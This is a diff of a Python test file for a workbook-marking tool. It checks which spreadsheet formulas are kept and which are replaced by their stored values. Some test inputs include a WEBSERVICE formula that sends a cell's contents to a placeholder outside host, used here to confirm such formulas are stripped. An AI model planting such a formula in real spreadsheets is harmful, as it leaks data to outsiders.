@@ -267,15 +267,94 @@ def test_a_marked_hidden_sheet_is_shown_and_an_unmarked_one_stays_hidden() -> No
     assert again["存档"].sheet_state == "hidden"
 
 
-def test_formulas_become_the_values_that_were_shown() -> None:
-    data = with_cell(a_book(), "G7", b'<c r="G7"><f>D7*E7*SUM(F7)</f><v>2016</v></c>')
+def with_formulas(cells: dict[str, bytes], data: bytes | None = None) -> bytes:
+    """Formulas with the results a program stored beside them."""
+    data = data or a_book()
+    for at, inner in cells.items():
+        data = with_cell(data, at, b'<c r="%s">%s</c>' % (at.encode(), inner))
+    return data
 
-    sheet = sheet_of(marked(data, LOOSE))
 
-    assert sheet["G7"].value == 2016
+ARITHMETIC = {
+    "G7": b"<f>E7*F7</f><v>2016.5</v>",
+    "G9": b"<f>SUM(G7:G8)</f><v>6756</v>",
+}
 
 
-def test_a_plain_formula_without_a_value_is_kept_and_any_other_is_not() -> None:
+def test_arithmetic_stays_with_the_value_that_was_shown() -> None:
+    raw = mark_workbook(with_formulas(ARITHMETIC), [LOOSE], ZH)
+
+    formulas, values = (
+        sheet_of(load_workbook(io.BytesIO(raw), data_only=d)) for d in (False, True)
+    )
+    assert [formulas[at].value for at in ("G7", "G9")] == ["=E7*F7", "=SUM(G7:G8)"]
+    assert [values[at].value for at in ("G7", "G9")] == [2016.5, 6756]
+    book = load_workbook(io.BytesIO(raw))
+    assert (book.calculation.calcMode, book.calculation.fullCalcOnLoad) == ("auto", True)
+
+
+def test_a_formula_that_is_marked_keeps_its_value_too() -> None:
+    wrong = replace(LOOSE, column=6, found="")
+    raw = mark_workbook(with_formulas(ARITHMETIC), [wrong], ZH)
+
+    book = load_workbook(io.BytesIO(raw), data_only=True)
+    assert sheet_of(book)["G7"].value == 2016.5
+    assert [c.value for c in book[FINDINGS][5]][2] == "2016.5"
+
+
+@pytest.mark.parametrize(
+    "inner",
+    [
+        b'<f>WEBSERVICE("http://x.example/"&amp;B2)</f><v>2016</v>',
+        b"<f>[1]Prices!A1*E7</f><v>2016</v>",
+        b"<f>IF(E7&gt;0,E7*F7,0)</f><v>2016</v>",
+        b"<f>Nowhere!A1</f><v>2016</v>",
+        b'<f t="array" ref="G7">E7*F7</f><v>2016</v>',
+    ],
+)
+def test_any_other_formula_becomes_its_value_and_that_is_said(inner: bytes) -> None:
+    raw = mark_workbook(with_formulas({"G7": inner}), [LOOSE], ZH)
+
+    sheet = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet2.xml")
+    assert b"<f" not in sheet
+    book = load_workbook(io.BytesIO(raw))
+    assert sheet_of(book)["G7"].value == 2016
+    assert book[FINDINGS]["A3"].value == ZH["formulas_lost"]
+
+
+def test_where_no_formula_is_lost_nothing_is_said_of_formulas() -> None:
+    for data in (a_book(), with_formulas(ARITHMETIC)):
+        assert not marked(data, LOOSE)[FINDINGS]["A3"].value
+
+
+def test_arithmetic_that_came_to_no_number_becomes_what_was_shown() -> None:
+    wrong = b'<c r="G7" t="e"><f>E7/0</f><v>#DIV/0!</v></c>'
+    sheet = sheet_of(marked(with_cell(a_book(), "G7", wrong), LOOSE))
+
+    assert sheet["G7"].value == "#DIV/0!"
+
+
+def test_formulas_written_once_for_many_cells_stay_in_each_of_them() -> None:
+    shared = {
+        "G7": b'<f t="shared" ref="G7:G8" si="0">E7*F7</f><v>2184</v>',
+        "G8": b'<f t="shared" si="0"/><v>4740</v>',
+    }
+    sheet = sheet_of(marked(with_formulas(shared), LOOSE))
+
+    assert [sheet[at].value for at in ("G7", "G8")] == ["=E7*F7", "=E8*F8"]
+
+
+def test_arithmetic_over_another_sheet_of_the_workbook_stays() -> None:
+    def more(sheet: Worksheet) -> None:
+        assert sheet.parent is not None
+        sheet.parent.create_sheet("价目 表")["A1"] = 168
+
+    data = with_formulas({"G7": "<f>'价目 表'!$A$1*E7</f><v>2184</v>".encode()}, a_book(more))
+
+    assert sheet_of(marked(data, LOOSE))["G7"].value == "='价目 表'!$A$1*E7"
+
+
+def test_a_formula_without_a_value_stays_or_leaves_nothing() -> None:
     def formulas(sheet: Worksheet) -> None:
         sheet["G7"] = "=E7*F7"
         sheet["G8"] = '=WEBSERVICE("http://x.example/"&B2)'
@@ -284,6 +363,24 @@ def test_a_plain_formula_without_a_value_is_kept_and_any_other_is_not() -> None:
 
     assert sheet["G7"].value == "=E7*F7"
     assert sheet["G8"].value is None
+
+
+def test_proposals_do_not_stand_where_a_formula_without_a_value_stands() -> None:
+    def formulas(sheet: Worksheet) -> None:
+        sheet["J7"] = "=E7*F7"
+
+    sheet = sheet_of(marked(a_book(formulas), LOOSE))
+
+    assert sheet["J7"].value == "=E7*F7"
+    assert str(sheet["K7"].value).startswith("←")
+
+
+def test_a_workbook_with_formulas_sent_back_unchanged_is_read_as_the_original_was() -> None:
+    data = with_formulas(ARITHMETIC)
+
+    after = read_file("a.xlsx", mark_workbook(data, [LOOSE], ZH), KNOWN)
+
+    assert after.documents == read_file("a.xlsx", data, KNOWN).documents
 
 
 def with_cell(data: bytes, at: str, xml: bytes) -> bytes:
